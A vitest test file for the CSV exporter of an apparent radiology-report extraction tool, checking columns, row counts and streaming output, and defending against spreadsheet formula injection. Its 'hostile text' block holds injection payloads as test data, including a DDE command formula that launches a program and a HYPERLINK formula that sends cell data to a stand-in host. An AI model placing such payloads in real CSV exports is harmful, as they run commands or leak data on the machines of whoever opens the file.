import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { DocumentResult } from '../../src/facts/schema.js';
import { CSV_COLUMNS, caseRows, documentRows, formatCsv, neutraliseCell } from '../../src/output/csv.js';
import { extractText } from '../helpers/extractor.js';
import { sampleCases, sampleDocuments } from './samples.js';

const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: false, bom: false });

describe('CSV columns and rows', () => {
  it('writes the documented header, one row per finding and one per measurement', async () => {
    const docs = await sampleDocuments();
    const doc = docs.find((d) => d.source.endsWith('03-ct-lumbar-compression-fracture.txt'))!;
    const [header, ...rows] = parseCsv(formatCsv(documentRows(doc)));
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(doc.findings.length + doc.measurements.length);
    const fracture = rows.find((r) => r[2] === 'compression_fracture')!;
    const f = doc.findings.find((x) => x.concept === 'compression_fracture')!;
    expect(fracture).toEqual([
      '',
      doc.source,
      'compression_fracture',
      f.assertion,
      f.levels.join(' '),
      f.severity ?? '',
      f.percent === null ? '' : String(f.percent),
      f.section,
      '',
      String(f.span.start),
      String(f.span.end),
      f.sentence,
    ]);
    const pct = rows.find((r) => r[2] === 'height_loss_percent')!;
    expect(pct[3]).toBe('');
    expect(Number(pct[6])).toBeGreaterThan(0);
  });

  it('gives measurements their band in the severity column', () => {
    const doc = extractText('EXAM: Hoffmann sign positive. mJOA 13/18. Pain 8/10.');
    const rows = parseCsv(formatCsv(documentRows(doc))).slice(1);
    expect(rows.find((r) => r[2] === 'mjoa')?.slice(5, 7)).toEqual(['moderate', '13']);
    expect(rows.find((r) => r[2] === 'pain_score')?.slice(5, 7)).toEqual(['severe', '8']);
  });

  it('puts the case id on every row of a case, for every sample case', async () => {
    const cases = await sampleCases();
    let total = 0;
    for (const c of cases) {
      const rows = parseCsv(formatCsv(caseRows(c))).slice(1);
      const expected = c.documents.reduce((n, d) => n + d.findings.length + d.measurements.length, 0);
      expect(rows).toHaveLength(expected);
      for (const r of rows) expect(r[0]).toBe(c.caseId);
      total += rows.length;
    }
    expect(total).toBeGreaterThan(100);
  });

  it('keeps PDF page numbers', async () => {
    const pdf = (await sampleDocuments()).find((d) => d.source.endsWith('lumbar-mri-report.pdf'))!;
    const rows = parseCsv(formatCsv(documentRows(pdf))).slice(1);
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) expect(r[8]).toBe('1');
  });
});

describe('hostile text', () => {
  const hostile: DocumentResult = {
    ...extractText('FINDINGS: Mild disc bulge at L4-5.', 'evil.txt'),
    source: '=HYPERLINK("http://x.invalid/?"&A1,"click"),report.txt',
  };
  const sentences = [
    "=cmd|' /C calc'!A0",
    '+SUM(1,2)',
    '-2+3 mild bulge',
    '@SUM(A1:A9)',
    '\tTabbed, "quoted" text',
    '\rcarriage return',
    '＝1+1 (full-width)',
    'Line one,\nline two with "quotes" and, commas',
    'plain sentence',
  ];
  const rows = sentences.map((sentence, i) => ({ ...documentRows(hostile)[0]!, sentence, start: i }));
  const csv = formatCsv(rows);
  const parsed = parseCsv(csv);

  it('is RFC 4180: CRLF records, quoted fields, round-trips through a CSV parser', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));
    expect(parsed).toHaveLength(sentences.length + 1);
    for (const r of parsed) expect(r).toHaveLength(CSV_COLUMNS.length);
    expect(parsed[8]![11]).toBe('Line one,\nline two with "quotes" and, commas');
    expect(csv).toContain('"Line one,\nline two with ""quotes"" and, commas"');
    expect(parsed[9]![11]).toBe('plain sentence');
  });

  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const cells = parsed.slice(1).map((r) => r[11]!);
    expect(cells.slice(0, 7)).toEqual([
      "'=cmd|' /C calc'!A0",
      "'+SUM(1,2)",
      "'-2+3 mild bulge",
      "'@SUM(A1:A9)",
      '\'\tTabbed, "quoted" text',
      "'\rcarriage return",
      "'＝1+1 (full-width)",
    ]);
    for (const r of parsed.slice(1)) {
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(r[1]).toBe(`'${hostile.source}`);
    }
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(neutraliseCell('L4-L5 L5-S1')).toBe('L4-L5 L5-S1');
    expect(neutraliseCell('mild - moderate')).toBe('mild - moderate');
    expect(parsed[1]![9]).toBe('0');
  });

  it('writes only the header when there is nothing to write', () => {
    expect(formatCsv([])).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});

describe('createCsvWriter', () => {
  it('writes the header once and then the rows of each item as it comes', async () => {
    const { PassThrough } = await import('node:stream');
    const { createCsvWriter } = await import('../../src/output/csv.js');
    const stream = new PassThrough();
    let out = '';
    stream.on('data', (c) => {
      out += String(c);
    });
    const w = createCsvWriter(stream, (d: DocumentResult) => documentRows(d));
    const a = extractText('IMPRESSION: Mild L2 height loss.', 'a.txt');
    const b = extractText('IMPRESSION: No fracture.', 'b.txt');
    await w.write(a);
    const afterFirst = out;
    await w.write(b);
    await w.close();
    expect(afterFirst.startsWith(CSV_COLUMNS.join(','))).toBe(true);
    const rows = parseCsv(out);
    expect(rows.filter((r) => r[0] === 'case')).toHaveLength(1);
    expect(rows.slice(1).map((r) => r[1])).toEqual([
      ...a.findings.map(() => 'a.txt'),
      ...b.findings.map(() => 'b.txt'),
    ]);
  });
});
